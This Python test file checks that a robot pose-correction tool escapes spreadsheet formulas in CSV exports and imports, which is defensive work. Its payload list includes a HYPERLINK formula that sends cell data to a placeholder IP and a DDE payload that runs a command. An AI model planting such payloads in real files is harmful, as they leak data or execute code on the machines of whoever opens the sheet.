"""A text of a person is no formula to a spreadsheet, and is the same text to us."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.helpers.domain.robots import IRB_120
from tests.helpers.identification.models import model_of
from truepose.correction import correct
from truepose.exchange.import_wizard.sheet import cells_of
from truepose.exchange.tables.rows import read_text, written_text
from truepose.exchange.tables.targets import CorrectionWriter, targets_of

FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "=1",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_compute_is_a_text(text):
    assert written_text(text) == f"'{text}"
    assert read_text(f"'{text}") == text


@pytest.mark.parametrize(
    "text", ["-0.5", "+1", "1e-3", "-1,25", ".5", "-12.", "weld 1", "", "'", "a=b", "'n"]
)
def test_numbers_and_plain_texts_stay_as_they_are(text):
    assert written_text(text) == text == read_text(text)


@given(st.text(st.sampled_from("'=+-@\t\r\n1.e a\uff1d")))
def test_every_text_comes_back_as_it_was(text):
    assert read_text(written_text(text)) == text
    assert written_text(read_text(written_text(text))) == written_text(text)


def test_a_corrected_table_has_no_formula_of_whoever_named_its_targets():
    given_text = "target,x_mm,y_mm,z_mm,qw,qx,qy,qz,=note,speed\n"
    given_text += "=1+1,300,0,500,1,0,0,0,@SUM(A1),-250\n'=2,300,0,500,1,0,0,0,'-5,+1e3\n"
    (part,) = targets_of("targets.csv", given_text.encode(), 6, [])
    stream = io.StringIO()
    CorrectionWriter(stream).write(part.names, correct(model_of(IRB_120), part.poses), part.own)

    head, *rows = csv.reader(io.StringIO(stream.getvalue()))

    assert part.names == ("=1+1", "=2")
    assert [row[0] for row in rows] == ["'=1+1", "'=2"]
    assert "'=note" in head
    assert [row[head.index("'=note")] for row in rows] == ["'@SUM(A1)", "'-5"]
    assert [row[head.index("speed")] for row in rows] == ["-250", "+1e3"]


def test_a_table_that_is_brought_has_its_texts_as_they_were():
    assert cells_of("'=1+1,-0.5,'plain", ",") == ["=1+1", "-0.5", "'plain"]
